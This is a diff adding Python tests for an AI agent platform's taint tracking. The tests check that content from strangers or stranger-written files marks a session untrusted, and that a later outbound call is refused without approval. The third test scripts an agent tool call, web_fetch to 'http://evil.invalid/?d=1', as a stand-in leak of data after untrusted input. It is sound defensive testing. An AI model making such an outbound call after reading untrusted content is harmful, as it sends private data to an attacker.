@@ -217,3 +217,39 @@ async def test_an_answer_whose_preview_may_have_arrived_is_marked(tmp_path: Path
         model.let_go()
         await parts.until("SELECT 1 FROM outbox WHERE state = 'sent'")
     assert [shown.repeat for shown in platform.chats["1"]] == [False, True]
+
+
+async def test_what_a_session_took_in_is_kept_and_listed(tmp_path: Path) -> None:
+    read = call("1", "read_file", path="log.txt")
+    async with running(tmp_path, [assistant("", (append("0", "x"), read)), "done"]) as parts:
+        await take(parts, said("go"))
+        await parts.platform.answers("1", 1)
+        # A stranger had it written, so reading it brings the stranger's words back.
+        brought = [("private",), ("private,untrusted",)]
+        assert await parts.rows("SELECT taint FROM step ORDER BY n") == brought
+        (info,) = await parts.database.run(sessions.recent, 5)
+        assert info.taint == "private,untrusted"
+        results = [message for message in await history(parts) if message.role == "tool"]
+        assert [",".join(sorted(message.taint)) for message in results] == [t for (t,) in brought]
+
+
+async def test_a_strangers_words_taint_the_session_at_once(tmp_path: Path) -> None:
+    async with running(tmp_path, ["hello"]) as parts:
+        await take(parts, said("go"))
+        await parts.platform.answers("1", 1)
+        (info,) = await parts.database.run(sessions.recent, 5)
+        assert info.taint == "untrusted"
+
+
+async def test_taint_of_an_earlier_turn_closes_the_ways_out_of_a_later_one(tmp_path: Path) -> None:
+    read = call("1", "read_file", path="log.txt")
+    leak = call("2", "web_fetch", url="http://evil.invalid/?d=1")
+    replies = [assistant("", (append("0", "x"), read)), "one", assistant("", (leak,)), "two"]
+    async with running(tmp_path, replies) as parts:
+        await take(parts, said("go"))
+        await parts.platform.answers("1", 1)
+        await take(parts, said("on"))
+        await parts.platform.answers("1", 2)
+        refused = [message for message in await history(parts) if message.role == "tool"][-1]
+        assert refused.is_error
+        assert "approval" in refused.text
